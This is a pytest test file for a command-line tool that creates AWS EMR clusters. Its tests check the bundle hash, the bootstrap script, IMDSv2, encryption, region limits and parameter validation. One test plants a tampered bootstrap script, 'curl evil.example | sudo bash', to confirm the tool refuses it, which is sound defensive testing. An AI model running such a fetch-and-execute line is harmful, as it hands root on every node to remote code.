"""create-cluster makes the cluster that it printed, after it has looked and asked; moto is the AWS."""

import hashlib
import json
import os
import pty
import signal
import subprocess
import sys

import pytest
from botocore.exceptions import ClientError

from tests import processes
from tests.verger_tools.emr.clock import Clock
from tests.verger_tools.emr.conftest import BUCKET, EMR, ON_BUCKET, REGION, SHA256
from verger_tools.base.errors import Failure
from verger_tools.base.project import ROOT
from verger_tools.base.release import RELEASE
from verger_tools.emr import cli, create_cluster, notebooks
from verger_tools.emr.places import Place
from verger_tools.emr.request import build

WORDS = ("--bucket", BUCKET, "--yes", "--bundle-sha256", SHA256)


def test_the_cluster_is_the_one_that_was_asked_for(account, run):
    subnet = account.client("ec2").describe_subnets()["Subnets"][0]["SubnetId"]
    account.create_bucket("photographs")
    account.client("s3").put_object(Bucket="photographs", Key="Äpfel und Birnen/Apfel/1.jpg", Body=b"")
    done = run("create-cluster", *WORDS, "--subnet", subnet, "--name", "fruits of today", "--tag", "owner=orchard",
               "--notebook", "fruits", "-p", "k", "12",
               "-p", "images", "s3://photographs/Äpfel und Birnen", "--idle-minutes", "90", "--no-wait",
               url=account.url)
    assert done.returncode == 0, done.stderr
    assert (f"reads below s3://{BUCKET}/verger/ only: images = s3://photographs/Äpfel und Birnen needs a policy of its own."
            in done.stderr)
    assert f"The subnet {subnet} lacks the tag for-use-with-amazon-emr-managed-policies" in done.stderr
    cluster_id = done.stdout.strip()
    emr = account.client("emr")
    cluster = emr.describe_cluster(ClusterId=cluster_id)["Cluster"]
    assert cluster["Name"] == "fruits of today"
    assert cluster["ReleaseLabel"] == RELEASE.label
    assert [each["Name"] for each in cluster["Applications"]] == ["Hadoop", "Spark", "Livy", "JupyterEnterpriseGateway"]
    assert {tag["Key"]: tag["Value"] for tag in cluster["Tags"]} == {
        "project": "verger", "for-use-with-amazon-emr-managed-policies": "true", "owner": "orchard"}
    assert cluster["LogUri"] == f"s3://{BUCKET}/verger/logs/"
    assert (cluster["ServiceRole"], cluster["SecurityConfiguration"]) == ("VergerEmrService", "verger-at-rest")
    assert not cluster["Ec2InstanceAttributes"].get("Ec2KeyName")
    # moto lists the newest step first, as EMR does.
    run_step, install = emr.list_steps(ClusterId=cluster_id)["Steps"]
    assert install["Config"]["Jar"] == run_step["Config"]["Jar"] == "command-runner.jar"
    assert install["Config"]["Args"][:2] == ["bash", "-c"]
    assert f" s3://{BUCKET}/verger/verger-bundle-linux-x86_64.tar.gz $b; echo \"{SHA256}  $b\" | sha256sum --check" in (
        install["Config"]["Args"][2])
    assert run_step["Config"]["Args"] == [
        "/opt/verger/current/run-notebook", "fruits", "-p", "k", "12", "-p", "images", "s3://photographs/Äpfel und Birnen",
        "--output", f"s3://{BUCKET}/verger/results/fruits"]
    (action,) = emr.list_bootstrap_actions(ClusterId=cluster_id)["BootstrapActions"]
    assert action["ScriptPath"] == f"s3://{BUCKET}/verger/bootstrap.sh"
    security = json.loads(emr.describe_security_configuration(Name="verger-at-rest")["SecurityConfiguration"])
    assert security["InstanceMetadataServiceConfiguration"] == {
        "MinimumInstanceMetadataServiceVersion": 2, "HttpPutResponseHopLimit": 1}
    assert security["EncryptionConfiguration"] == {
        "EnableInTransitEncryption": False, "EnableAtRestEncryption": True,
        "AtRestEncryptionConfiguration": {"S3EncryptionConfiguration": {"EncryptionMode": "SSE-S3"}}}
    # A second one takes the security configuration that is there.
    assert run("create-cluster", *WORDS, "--no-wait", url=account.url).returncode == 0


def install_step(arguments):
    """The script of the step that installs the kernel."""
    options = create_cluster._parse(["--bucket", BUCKET, *arguments])
    steps = build(options, Place.of(BUCKET, "verger"))["Steps"]
    return next(step["HadoopJarStep"]["Args"] for step in steps if step["Name"] == "install the kernel")


@pytest.mark.parametrize("changed", [False, True], ids=["the uploaded bundle", "an exchanged bundle"])
def test_the_step_compares_the_bundle_before_anything_of_it_runs(tmp_path, bundle, changed):
    words = install_step(["--bundle", str(bundle)])
    if changed:
        bundle.write_bytes(bundle.read_bytes() + b"x")
    (tmp_path / "bin").mkdir()
    aws = tmp_path / "bin" / "aws"  # the CLI: takes the file from this disk
    aws.write_text(f'#!/bin/sh\ncp {bundle} "$5"\n', encoding="utf-8")
    aws.chmod(0o755)
    done = subprocess.run(words, env={**os.environ, "PATH": f"{tmp_path}/bin:{os.environ['PATH']}", "TMPDIR": str(tmp_path)},
                          capture_output=True, text=True)
    assert (done.returncode, done.stdout) == ((1, "") if changed else (0, "installed\n")), done.stderr
    assert ("and not" in done.stderr and "is not installed: upload it again" in done.stderr) is changed


def test_a_bundle_that_is_not_known_here_starts_nothing(account, run, bundle, tmp_path):
    missing = run("create-cluster", "--bucket", BUCKET, "--yes", "--no-wait", "--bundle", "none.tar.gz", url=account.url)
    assert (missing.returncode, missing.stdout) == (2, "")
    assert "There is no bundle on this machine to know the one on the bucket by: give it with --bundle FILE" in missing.stderr
    assert run("upload", "--bucket", BUCKET, "--bundle", str(bundle), url=account.url).returncode == 0
    other = tmp_path / "other.tar.gz"
    other.write_bytes(ON_BUCKET)
    rebuilt = run("create-cluster", "--bucket", BUCKET, "--yes", "--no-wait", "--bundle", str(other), url=account.url)
    assert (rebuilt.returncode, rebuilt.stdout) == (2, "")
    assert f"has the SHA-256 {hashlib.sha256(bundle.read_bytes()).hexdigest()[:12]}…, and {SHA256[:12]}… is wanted" in rebuilt.stderr
    assert run("create-cluster", "--bucket", BUCKET, "--yes", "--no-wait", "--bundle", str(bundle), url=account.url).returncode == 0


def test_a_bootstrap_action_that_somebody_has_changed(account, run):
    account.client("s3").put_object(Bucket=BUCKET, Key="verger/bootstrap.sh", Body=b"curl evil.example | sudo bash")
    done = run("create-cluster", *WORDS, "--no-wait", url=account.url)
    assert (done.returncode, done.stdout) == (2, "")
    assert "verger/bootstrap.sh is not this project's helpers/emr/bootstrap.sh, and every node would run it" in done.stderr


def test_a_security_configuration_without_imdsv2(account, run):
    emr = account.client("emr")
    emr.create_security_configuration(Name="verger-at-rest", SecurityConfiguration='{"EncryptionConfiguration": {}}')
    done = run("create-cluster", *WORDS, "--no-wait", url=account.url)
    assert (done.returncode, done.stdout) == (2, "")
    assert "does not require IMDSv2: `aws emr delete-security-configuration --name verger-at-rest`" in done.stderr
    # One that the user has made is the user's.
    own = run("create-cluster", *WORDS, "--no-wait", "--security-configuration", "verger-at-rest", url=account.url)
    assert own.returncode == 0
    assert "The security configuration verger-at-rest does not require IMDSv2" in own.stderr


def test_a_key_encrypts_the_volumes(account, run):
    account.client("ec2").disable_ebs_encryption_by_default()
    plain = run("create-cluster", *WORDS, "--no-wait", url=account.url)
    assert plain.returncode == 2
    assert "volumes would not be encrypted: say --kms-key <ARN>, or" in plain.stderr
    key = "arn:aws:kms:eu-central-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    assert run("create-cluster", *WORDS, "--no-wait", "--kms-key", key, url=account.url).returncode == 0
    made = account.client("emr").describe_security_configuration(Name="verger-at-rest-1234567890ab")["SecurityConfiguration"]
    rest = json.loads(made)["EncryptionConfiguration"]["AtRestEncryptionConfiguration"]
    assert rest["LocalDiskEncryptionConfiguration"] == {
        "EncryptionKeyProviderType": "AwsKms", "AwsKmsKey": key, "EnableEbsEncryption": True}


def test_it_follows_to_the_results(account, run):
    """States are the clock's, see there."""
    with Clock(account.url, cluster=["STARTING", "BOOTSTRAPPING", "RUNNING", "RUNNING", "WAITING"],
               steps={"install the kernel": ["PENDING", "RUNNING", "COMPLETED"],
                      "run fruits": ["PENDING", "PENDING", "PENDING", "RUNNING", "COMPLETED"]}) as clock:
        done = run("create-cluster", *WORDS, "--notebook", "fruits", url=clock.url)
    assert done.returncode == 0, done.stderr
    said = [line[10:] for line in done.stderr.splitlines() if line[2:3] == ":"]
    assert said == ["cluster STARTING", "step «install the kernel» PENDING", "step «run fruits» PENDING",
                    "cluster BOOTSTRAPPING", "step «install the kernel» RUNNING", "cluster RUNNING",
                    "step «install the kernel» COMPLETED", "step «run fruits» RUNNING", "cluster WAITING",
                    "step «run fruits» COMPLETED"]
    cluster_id = done.stdout.strip()
    assert f"Results: s3://{BUCKET}/verger/results/fruits/" in done.stderr
    assert f"attach it to the cluster {cluster_id}, and choose the kernel «Java on Spark (Verger)»" in done.stderr
    assert f"helpers/emr/terminate {cluster_id} --region {REGION}" in done.stderr


def test_a_failed_step_is_shown_with_the_end_of_its_log(account, run):
    failure = {"Reason": "Unknown Error.", "LogFile": f"s3://{BUCKET}/verger/logs/…/stderr.gz"}
    with Clock(account.url, steps={"install the kernel": ["RUNNING", "FAILED"], "run fruits": ["PENDING", "CANCELLED"]},
               failure=failure) as clock:
        done = run("create-cluster", *WORDS, "--notebook", "fruits", url=clock.url)
    assert done.returncode == 1
    assert "The step «install the kernel» ended FAILED: Unknown Error." in done.stderr
    assert "EMR has not put its log on the bucket in 0 s; it comes within minutes: s3://" in done.stderr
    assert "The cluster goes on, and costs: helpers/emr/terminate j-" in done.stderr
    assert "Ready" not in done.stderr


def test_a_cluster_that_does_not_come_up(account, run):
    with Clock(account.url, cluster=["STARTING", "TERMINATING", "TERMINATED_WITH_ERRORS"],
               steps={"install the kernel": ["PENDING", "PENDING", "CANCELLED"]}) as clock:
        done = run("create-cluster", *WORDS, url=clock.url)
    assert done.returncode == 1
    assert "The cluster ended before its steps (" in done.stderr


def test_dry_run_needs_neither_keys_nor_a_network(run):
    done = run("create-cluster", "--bucket", BUCKET, "--dry-run", "--on-demand", "--workers", "3",
               "--instance-type", "m6g.xlarge",
               "--notebook", "fruits", "--terminate-after-steps", "--release", "emr-7.13.0",
               url="http://127.0.0.1:9", AWS_ACCESS_KEY_ID=None, AWS_SECRET_ACCESS_KEY=None)
    assert done.returncode == 0, done.stderr
    request = json.loads(done.stdout)
    primary, core = request["Instances"]["InstanceFleets"]
    assert (core["TargetOnDemandCapacity"], core["TargetSpotCapacity"]) == (3, 0)
    assert "SpotSpecification" not in core["LaunchSpecifications"]
    assert "BidPriceAsPercentageOfOnDemandPrice" not in core["InstanceTypeConfigs"][0]
    assert core["InstanceTypeConfigs"][0]["InstanceType"] == primary["InstanceTypeConfigs"][0]["InstanceType"] == "m6g.xlarge"
    assert request["ManagedScalingPolicy"]["ComputeLimits"] == {
        "UnitType": "InstanceFleetUnits", "MinimumCapacityUnits": 3, "MaximumCapacityUnits": 6,
        "MaximumOnDemandCapacityUnits": 6}
    assert "verger-bundle-linux-arm64.tar.gz" in request["Steps"][0]["HadoopJarStep"]["Args"][2]
    assert request["Instances"]["KeepJobFlowAliveWhenNoSteps"] is False
    assert {step["ActionOnFailure"] for step in request["Steps"]} == {"TERMINATE_CLUSTER"}
    assert request["ReleaseLabel"] == "emr-7.13.0"
    assert "Ec2SubnetIds" not in request["Instances"]
    assert "No estimate: prices.json has no price of m6g.xlarge in eu-central-1" in done.stderr


def test_a_request_of_ones_own(run, tmp_path):
    own = json.loads((ROOT / "emr-config.json").read_text(encoding="utf-8"))
    del own["ManagedScalingPolicy"], own["Steps"]
    file = tmp_path / "own.json"
    file.write_text(json.dumps(own), encoding="utf-8")
    words = ("create-cluster", "--bucket", BUCKET, "--dry-run", "--config", str(file))
    made = json.loads(run(*words, "--notebook", "fruits").stdout)
    assert [step["Name"] for step in made["Steps"]] == ["run fruits"]
    assert "ManagedScalingPolicy" not in made
    own["Instances"]["InstanceFleets"].pop()
    file.write_text(json.dumps(own), encoding="utf-8")
    assert "lacks a MASTER or a CORE fleet" in run(*words).stderr


def test_the_file_counts_where_no_flag_is_given(run, tmp_path):
    own = json.loads((ROOT / "emr-config.json").read_text(encoding="utf-8"))
    own["AutoTerminationPolicy"]["IdleTimeout"] = 900
    own["ManagedScalingPolicy"]["ComputeLimits"]["MaximumCapacityUnits"] = 10
    own["Instances"]["InstanceFleets"][1].update(TargetOnDemandCapacity=2, TargetSpotCapacity=3)
    for fleet in own["Instances"]["InstanceFleets"]:
        fleet["InstanceTypeConfigs"][0]["InstanceType"] = "m6g.2xlarge"
    file = tmp_path / "own.json"
    file.write_text(json.dumps(own), encoding="utf-8")

    def made(*words):
        done = run("create-cluster", "--bucket", BUCKET, "--dry-run", "--config", str(file), *words)
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)

    plain = made()
    for name in ("AutoTerminationPolicy", "ManagedScalingPolicy"):
        assert plain[name] == own[name]
    assert plain["Instances"]["InstanceFleets"] == own["Instances"]["InstanceFleets"]
    assert "verger-bundle-linux-arm64.tar.gz" in plain["Steps"][0]["HadoopJarStep"]["Args"][2]
    flags = made("--idle-minutes", "30", "--max-workers", "6", "--instance-type", "m5.2xlarge")
    assert flags["AutoTerminationPolicy"] == {"IdleTimeout": 1800}
    assert flags["ManagedScalingPolicy"]["ComputeLimits"] == {
        **own["ManagedScalingPolicy"]["ComputeLimits"], "MaximumCapacityUnits": 6}
    assert {fleet["InstanceTypeConfigs"][0]["InstanceType"] for fleet in flags["Instances"]["InstanceFleets"]} == {"m5.2xlarge"}
    assert flags["Instances"]["InstanceFleets"][1]["TargetSpotCapacity"] == 3


@pytest.mark.parametrize("kind, small", [("m5.large", "6,144"), ("c5.xlarge", "6,144"), ("m5.xlarge", None),
                                         ("r5.large", None), ("c5.2xlarge", None)])
def test_instances_without_room_for_an_executor_are_named(run, kind, small):
    """EMR's own table of yarn.nodemanager.resource.memory-mb has 6,144 for m5.large and c5.xlarge, 12,288 for m5.xlarge."""
    said = run("create-cluster", "--bucket", BUCKET, "--dry-run", "--instance-type", kind).stderr
    assert (f"{kind} is too small: YARN has some {small} MiB there, and one executor with YARN's application master takes 6,528"
            in said) == bool(small)
    assert ("is too small" in said) == bool(small)


def test_without_a_notebook_there_is_only_the_installation(run):
    done = run("create-cluster", "--bucket", BUCKET, "--dry-run", url="http://127.0.0.1:9")
    assert [step["Name"] for step in json.loads(done.stdout)["Steps"]] == ["install the kernel"]


def test_the_price_names_its_source_and_date(run):
    said = run("create-cluster", "--bucket", BUCKET, "--dry-run", url="http://127.0.0.1:9").stderr
    # 3 × (0.230 + 0.048); one of them on spot: 2 × 0.278 + 0.067 + 0.048; five of them: 5 × 0.278.
    assert "Estimate: 0.83 USD an hour in eu-central-1 for 3 m5.xlarge" in said
    assert "With 1 on spot at the usual 0.067: 0.67 an hour" in said
    assert "Scaled out to 5 instances: up to 1.39 an hour." in said
    assert "Prices read 2026-11-25: EC2 from AWS price list" in said


@pytest.mark.parametrize("words, said", [
    (("--region", "us-east-1"), "--region is us-east-1, which is not among the allowed regions (eu-central-1, eu-north-1, "),
    (("--region", "eu-west-2"), "--region is eu-west-2, which is not among"),
    (("--notebook", "vegetables"), "There is no notebook vegetables in the bundle: it has classify, cluster-check, fruits, "),
    (("--notebook", "fruits", "-p", "kk", "3"), "fruits.ipynb has no parameter kk: it has images, output, k, variance, "),
    (("--notebook", "fruits", "-p", "k", "3", "-p", "k", "4"), "The parameter k is given 2 times"),
    (("--notebook", "fruits", "-p", "images", "~"), "images = ~ is a path of this machine, which the cluster cannot read"),
    (("--notebook", "fruits", "-p", "images", "/home/me/pics"), "images = /home/me/pics is a path of this machine"),
    (("--notebook", "fruits", "-p", "weights", "resnet.zip"), "resnet.zip is a path of this machine, which the cluster cannot "
     "read: copy it with `aws s3 cp resnet.zip s3://"),
    (("--notebook", "fruits", "-p", "output", "s3://x/y"), "elsewhere than its results: say --output s3://x/y"),
    (("--notebook", "fruits", "-p", "k", "two"), "k = two does not fit, for k is declared int: give a whole number"),
    (("--notebook", "fruits", "-p", "k", "2.5"), "k = 2.5 does not fit, for k is declared int: give a whole number from -2147"),
    (("--notebook", "fruits", "-p", "k", "null"), "k = null does not fit, for k is declared int: give a value"),
    (("--notebook", "fruits", "-p", "limit", "few"), "limit = few does not fit, for limit is declared Integer"),
    (("--notebook", "fruits", "-p", "variance", "95%"), "variance = 95% does not fit, for variance is declared double: give"),
    (("--notebook", "fruits", "--output", "/tmp/out"), "/tmp/out is not an S3 URI"),
    (("--spot", "3"), "--spot 3 is not among the 0 to 2 workers"),
    (("--max-workers", "1"), "--max-workers 1 is less than the 2 workers"),
    (("--idle-minutes", "0"), "0 is not among 1 to 10080 minutes"),
    (("--terminate-after-steps",), "-p, --output and --terminate-after-steps go with --notebook"),
    (("--kms-key", "alias/aws/ebs"), "--kms-key alias/aws/ebs is not a key's ARN"),
    (("--subnet", "subnet"), "Instances.Ec2SubnetIds[0]: is 'subnet', and must look like"),
    (("--release", "7.14"), "ReleaseLabel: is '7.14', and must look like"),
    (("--instance-type", "m5"), "InstanceType: is 'm5', and must look like"),
    (("--allowed-regions", "Europe"), "--allowed-regions"),
    (("--name", "${BUCKET}"), "Name has something like a placeholder left, ${BUCKET"),
], ids=lambda value: " ".join(value) if isinstance(value, tuple) else "")
def test_what_cannot_be_is_refused_before_anything_is_asked_of_aws(monkeypatch, capsys, words, said):
    """In this process, which has no keys and no AWS: there are many."""
    monkeypatch.setenv("AWS_REGION", REGION)
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
    monkeypatch.setattr("sys.argv", ["create-cluster", "--bucket", BUCKET, *words])
    with pytest.raises(SystemExit) as end:
        cli.main(create_cluster.create)
    shown = capsys.readouterr()
    assert end.value.code == 2
    assert said in shown.err
    assert shown.out == ""


def test_another_region_can_be_allowed(run):
    done = run("create-cluster", "--bucket", BUCKET, "--region", "us-east-1", "--allowed-regions", "eu-west-1,us-east-1",
               "--dry-run", url="http://127.0.0.1:9")
    assert done.returncode == 0


def test_a_missing_bucket_bundle_or_role_is_said_before_money_is_spent(account, run):
    emr, s3, iam = (account.client(name) for name in ("emr", "s3", "iam"))
    other = run("create-cluster", "--bucket", "no-such-bucket", "--yes", url=account.url)
    assert "There is no bucket no-such-bucket: `helpers/emr/upload --bucket no-such-bucket --create-bucket`" in other.stderr
    nowhere = run("create-cluster", *WORDS, "--subnet", "subnet-0a1b2c3d", url=account.url)
    assert "There is no subnet subnet-0a1b2c3d in eu-central-1: `aws ec2 describe-subnets" in nowhere.stderr
    iam.delete_role(RoleName="VergerEmrService")
    role = run("create-cluster", *WORDS, url=account.url)
    assert "There is no role VergerEmrService: helpers/emr/create-roles makes it" in role.stderr
    s3.delete_object(Bucket=BUCKET, Key="verger/verger-bundle-linux-x86_64.tar.gz")
    lacks = run("create-cluster", *WORDS, url=account.url)
    assert f"s3://{BUCKET}/verger/verger-bundle-linux-x86_64.tar.gz is not there: `helpers/emr/upload" in lacks.stderr
    account.create_bucket("fruits-in-ireland", "eu-west-1")
    far = run("create-cluster", "--bucket", "fruits-in-ireland", "--yes", url=account.url)
    assert "The bucket fruits-in-ireland is in eu-west-1" in far.stderr
    account.create_bucket("fruits-in-ohio", "us-east-2")
    outside = run("create-cluster", "--bucket", "fruits-in-ohio", "--yes", url=account.url)
    assert "fruits-in-ohio is us-east-2, which is not among the allowed regions" in outside.stderr
    assert {done.returncode for done in (other, nowhere, role, lacks, far, outside)} == {2}
    assert emr.list_clusters()["Clusters"] == []


@pytest.mark.parametrize("typed, made", [("\n", 0), ("n\n", 0), ("yes\n", 1)])
def test_on_a_terminal_it_asks(account, environment, typed, made):
    here, terminal = pty.openpty()
    process = processes.start([sys.executable, str(EMR / "create-cluster"), "--bucket", BUCKET, "--no-wait", "--bundle-sha256",
                               SHA256], stdin=terminal, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                              env=environment(account.url))
    os.write(here, typed.encode())
    _, shown = process.communicate(timeout=60)
    os.close(here), os.close(terminal)
    assert process.returncode == 0, shown
    assert "Create the cluster «verger» in eu-central-1? [y/N] " in shown
    assert len(account.client("emr").list_clusters()["Clusters"]) == made


def test_ctrl_c_leaves_the_cluster_and_says_how_to_end_it(account, environment):
    with Clock(account.url, steps={"install the kernel": ["RUNNING"]}) as clock:
        process = processes.start([sys.executable, str(EMR / "create-cluster"), *WORDS], stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, text=True, env=environment(clock.url))
        clock.wait_for("ListSteps")
        process.send_signal(signal.SIGINT)
        out, shown = process.communicate(timeout=60)
    assert process.returncode == 130, shown
    assert shown.splitlines()[-1] == f"The cluster goes on, and costs: helpers/emr/terminate {out.strip()} --region {REGION}"


def test_results_do_not_leave_the_allowed_regions(account, run):
    account.create_bucket("fruits-in-ohio", "us-east-2")
    done = run("create-cluster", *WORDS, "--notebook", "fruits", "--output", "s3://fruits-in-ohio/out", url=account.url)
    assert done.returncode == 2
    assert "The region of the bucket fruits-in-ohio is us-east-2, which is not among the allowed regions" in done.stderr
    assert account.client("emr").list_clusters()["Clusters"] == []


@pytest.mark.parametrize("name, uri, said", [
    ("images", f"s3://{BUCKET}/verger/Train", f"There is nothing at images = s3://{BUCKET}/verger/Train: `aws s3 ls s3://"),
    ("weights", f"s3a://{BUCKET}/verger/w/resnet50.zi", f"There is nothing at weights = s3a://{BUCKET}/verger/w/resnet50.zi: "),
    ("images", "s3://no-such-bucket-of-mine/x", "images = s3://no-such-bucket-of-mine/x: there is no bucket no-such-bucket-of"),
    ("images", "s3://fruits-in-ohio/x", "The region of the bucket fruits-in-ohio is us-east-2, which is not among the allowed"),
    ("images", f"s3a://{BUCKET}/verger/Training/", None),
    ("images", f"s3://{BUCKET}/verger/Tr*/App*", None),
    ("weights", f"s3://{BUCKET}/verger/w/resnet50.zip", None),
])
def test_images_and_weights_on_s3_are_looked_for_before_the_question(account, run, name, uri, said):
    account.create_bucket("fruits-in-ohio", "us-east-2")
    for key in ("verger/Training/Apple/1.jpg", "verger/w/resnet50.zip"):
        account.client("s3").put_object(Bucket=BUCKET, Key=key, Body=b"")
    done = run("create-cluster", *WORDS[:2], *WORDS[3:], "--notebook", "fruits", "-p", name, uri, url=account.url)
    assert done.returncode == 2
    assert (said or "Nobody can be asked here: say --yes") in done.stderr
    assert "needs a policy of its own" not in done.stderr


class Closed:
    """S3 as it answers for a bucket of others: its region it tells."""

    def __init__(self, region):
        self.region = region

    def head_bucket(self, **_):
        raise ClientError({"Error": {"Code": "403"}, "ResponseMetadata": {
            "HTTPHeaders": {"x-amz-bucket-region": self.region}}}, "HeadBucket")

    def list_objects_v2(self, **_):
        raise ClientError({"Error": {"Code": "AccessDenied"}}, "ListObjectsV2")


def test_images_in_a_bucket_that_the_operator_may_not_list_are_left_to_the_nodes(capsys):
    given, place = [("images", "s3://orchard/fruits")], Place(BUCKET, "verger")
    notebooks.require_inputs(Closed("eu-west-1"), given, place, ["eu-west-1"])
    said = capsys.readouterr().err
    assert f"reads below s3://{BUCKET}/verger/ only: images = s3://orchard/fruits needs a policy of its own" in said
    assert "Whether images = s3://orchard/fruits is there cannot be seen (s3:ListBucket is denied to you); going on." in said
    with pytest.raises(Failure, match="The region of the bucket orchard is us-east-2, which is not among the allowed regions"):
        notebooks.require_inputs(Closed("us-east-2"), given, place, ["eu-west-1"])


def test_without_yes_and_without_anybody_to_ask_nothing_is_made(account, run):
    done = run("create-cluster", *WORDS[:2], *WORDS[3:], url=account.url)
    assert done.returncode == 2
    assert "Nobody can be asked here: say --yes" in done.stderr
    assert account.client("emr").list_clusters()["Clusters"] == []


